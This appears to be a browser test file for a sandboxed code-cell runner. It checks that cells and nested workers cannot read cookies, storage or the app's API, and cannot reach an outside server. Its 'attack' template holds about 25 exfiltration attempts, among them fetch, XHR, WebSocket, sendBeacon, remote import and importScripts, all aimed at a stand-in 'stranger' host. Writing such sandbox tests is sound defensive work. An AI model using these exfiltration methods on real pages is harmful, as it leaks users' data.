// A cell cannot read the app's cookies, page, storage or API, nor send anything anywhere: every way is tried, in the
// cell itself and in a nested worker whose globals nobody has touched, while a stranger's server counts who calls.
import { expect, type Place, test } from "./harness";

/** Plain JavaScript, run in a worker: tries every way out and tells how each ended. */
const attack = ({ stranger, app, runner }: Place) => `
const results = {};
const tries = {
  fetch: () => fetch("http://${stranger}/fetch?leak=1"),
  fetchNoCors: () => fetch("http://${stranger}/no-cors", { method: "POST", mode: "no-cors", body: "leak", keepalive: true }),
  fetchApi: () => fetch("${app}/api/secret", { mode: "no-cors", credentials: "include" }),
  fetchOwnHost: () => fetch("${runner}/kernel/leak?leak=1", { method: "POST", body: "leak" }),
  xhr: () => new Promise((resolve, reject) => {
    const xhr = new XMLHttpRequest(); xhr.open("GET", "http://${stranger}/xhr"); xhr.onload = resolve; xhr.onerror = () => reject(new Error("xhr")); xhr.send();
  }),
  webSocket: () => new Promise((resolve, reject) => { const s = new WebSocket("ws://${stranger}/socket"); s.onopen = resolve; s.onerror = () => reject(new Error("socket")); }),
  eventSource: () => new Promise((resolve, reject) => { const s = new EventSource("http://${stranger}/events"); s.onopen = resolve; s.onerror = () => { s.close(); reject(new Error("events")); }; }),
  beacon: () => { if (!navigator.sendBeacon("http://${stranger}/beacon", "leak")) throw new Error("beacon"); },
  importUrl: () => import("http://${stranger}/import.js"),
  importData: () => import("data:text/javascript,export default 1"),
  evaluatedImport: () => (0, eval)('import("http://${stranger}/eval-import.js")'),
  importScripts: () => importScripts("http://${stranger}/import-scripts.js"),
  webTransport: () => new WebTransport("https://${stranger}/transport").ready,
  workerUrl: () => worker("http://${stranger}/worker.js"),
  workerData: () => worker("data:text/javascript,postMessage(1)"),
  classicWorker: () => worker(URL.createObjectURL(new Blob(["importScripts('http://${stranger}/classic.js'); postMessage(1)"])), {}),
  font: () => new FontFace("leak", "url(http://${stranger}/font)").load(),
  cache: async () => (await caches.open("x")).add("http://${stranger}/cache"),
  navigate: () => { location.href = "http://${stranger}/navigate"; throw new Error("still here"); },
  openWindow: () => open("http://${stranger}/open"),
  page: () => document.title,
  parent: () => parent.document,
  cookies: () => cookieStore.getAll(),
  storage: () => localStorage.length,
  rtc: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:${stranger}" }] }).createOffer(),
};
function worker(url, options = { type: "module" }) {
  return new Promise((resolve, reject) => {
    const w = new Worker(url, options);
    w.onmessage = () => resolve(); w.onerror = (e) => { e.preventDefault(); reject(new Error("worker")); };
  });
}
const late = () => new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), 1500));
await Promise.all(Object.entries(tries).map(async ([name, go]) => {
  try { await Promise.race([go(), late()]); results[name] = "worked"; }
  catch (error) { results[name] = "failed"; }
}));
`;

const inNestedWorker = (place: Place) => `
const code = ${JSON.stringify(`${attack(place)}\npostMessage(results);`)};
const nested = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })), { type: "module" });
const results = await new Promise((resolve, reject) => {
  nested.onmessage = (event) => resolve(event.data);
  nested.onerror = (event) => reject(new Error(event.message));
});
`;

function clear({ hits }: Place) {
  hits.stranger.length = 0;
  hits.api.length = 0;
  hits.runner.length = 0;
}

for (const [where, code] of [
  ["in the cell", attack],
  ["in a nested worker with fresh globals", inNestedWorker],
] as const) {
  test(`no way out works ${where}, and nobody was called`, async ({ kernel, place }) => {
    await kernel.start("cpu");
    clear(place);
    const { end, outputs } = await kernel.run(`${code(place)}\nJSON.stringify(results)`);
    expect(end).toMatchObject({ type: "done" });
    const results = JSON.parse(outputs.at(-1)!.text!) as Record<string, string>;
    expect(Object.keys(results).length).toBeGreaterThan(20);
    expect(Object.entries(results).filter(([, result]) => result !== "failed")).toEqual([]);
    await kernel.page.waitForTimeout(500);
    expect(place.hits).toEqual({ stranger: [], api: [], runner: [] });
  });
}

test("the same ways do reach a stranger from a page without these policies", async ({ page, place }) => {
  clear(place);
  await page.goto(`http://${place.stranger}/`);
  await page.evaluate(
    (code) =>
      new Promise((resolve) => {
        const url = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
        new Worker(url, { type: "module" }).onmessage = resolve;
      }),
    `${attack(place)}\npostMessage(results);`,
  );
  const paths = place.hits.stranger.map((hit) => hit.split(" ")[1]!.split("?")[0]);
  for (const reached of [
    "/fetch",
    "/no-cors",
    "/xhr",
    "/socket",
    "/events",
    "/import.js",
    "/eval-import.js",
    "/worker.js",
    "/classic.js",
    "/cache",
    "/font",
  ])
    expect(paths, reached).toContain(reached);
  expect(place.hits.api).toHaveLength(1);
});

test("the runner page itself sees no cookie, no storage and no page of the app", async ({
  kernel,
  place,
}) => {
  await kernel.start("cpu");
  expect(await kernel.page.evaluate(() => document.cookie)).toBe("session=secret");
  const runner = kernel.page.frames().find((frame) => frame.url() === `${place.runner}/runner`)!;
  const seen = await runner.evaluate(() => {
    let parentTitle = "unreadable";
    try {
      parentTitle = window.parent.document.title;
    } catch {}
    return { cookie: document.cookie, stored: localStorage.length, parentTitle };
  });
  expect(seen).toEqual({ cookie: "", stored: 0, parentTitle: "unreadable" });
});

test("what a cell stores is gone at the next visit", async ({ kernel, place }) => {
  const nested = (body: string) => `
const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(body)}], { type: "text/javascript" })), { type: "module" });
await new Promise((resolve, reject) => { w.onmessage = (e) => resolve(e.data); w.onerror = (e) => reject(new Error(e.message)); })`;
  const look = nested(
    `postMessage(JSON.stringify({ databases: (await indexedDB.databases()).length, caches: (await caches.keys()).length, buckets: (await navigator.storageBuckets.keys()).length }))`,
  );
  await kernel.start("cpu");
  await kernel.run(
    nested(`await new Promise((resolve) => { indexedDB.open("mine").onsuccess = resolve; });
      await (await caches.open("mine")).put("${place.runner}/kernel/x", new Response("poison"));
      await navigator.storageBuckets.open("mine");
      postMessage(1)`),
  );
  const during = await kernel.run(look, { cell: "look" });
  expect(during.outputs.at(-1)!.text).toBe('{"databases":1,"caches":1,"buckets":1}');
  await kernel.page.reload();
  await kernel.page.waitForFunction(() => "bench" in globalThis);
  await kernel.start("cpu");
  const after = await kernel.run(look, { cell: "look" });
  expect(after.outputs.at(-1)!.text).toBe('{"databases":0,"caches":0,"buckets":0}');
});

test("replacing postMessage does not hand a cell the kernel's port", async ({ kernel }) => {
  await kernel.start("cpu");
  const { outputs } = await kernel.run(`const caught: unknown[] = [];
MessagePort.prototype.postMessage = function () { caught.push(this); };
console.log("a line");
await new Promise((resolve) => setTimeout(resolve, 100));
caught.length`);
  expect(outputs.map((output) => output.text)).toEqual(["a line", "0"]);
});

test("what a cell posts to the runner page is not taken for anything", async ({ kernel }) => {
  await kernel.start("cpu");
  const { end } = await kernel.run(`(self as unknown as Worker).postMessage({ aisle: "end", id: "x" });
(self as unknown as Worker).postMessage({ aisle: "spawn", id: "y" });
await new Promise((resolve) => setTimeout(resolve, 200));`);
  expect(end).toMatchObject({ type: "done" });
  expect(kernel.page.workers()).toHaveLength(1);
});

test("ending the worker ends the workers it has made", async ({ kernel, place }) => {
  await kernel.start("cpu");
  const runner = kernel.page.frames().find((frame) => frame.url() === `${place.runner}/runner`)!;
  await runner.evaluate(() => {
    const seen = globalThis as unknown as { beats: number; channel: BroadcastChannel };
    seen.beats = 0;
    seen.channel = new BroadcastChannel("beats");
    seen.channel.onmessage = () => seen.beats++;
  });
  const beats = () => runner.evaluate(() => (globalThis as unknown as { beats: number }).beats);
  const { end } = await kernel.run(
    `const code = "const c = new BroadcastChannel('beats'); setInterval(() => c.postMessage(1), 10)";
new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
await new Promise((resolve) => setTimeout(resolve, 400));
for (;;) {}`,
    { stopAfter: 700 },
  );
  expect(end).toMatchObject({ stopped: true, lost: "all" });
  expect(await beats()).toBeGreaterThan(5);
  // Chromium gives a worker that does not yield two seconds before it ends it by force.
  await expect
    .poll(async () => {
      const before = await beats();
      await kernel.page.waitForTimeout(200);
      return (await beats()) - before;
    })
    .toBe(0);
});

test("no other site can frame the runner", async ({ page, place }) => {
  await page.goto(`http://${place.stranger}/`);
  const refused = page.waitForEvent("console", (message) => message.text().includes("frame-ancestors"));
  await page.evaluate((src) => {
    const frame = document.createElement("iframe");
    frame.src = src;
    document.body.append(frame);
  }, `${place.runner}/runner`);
  await refused;
});
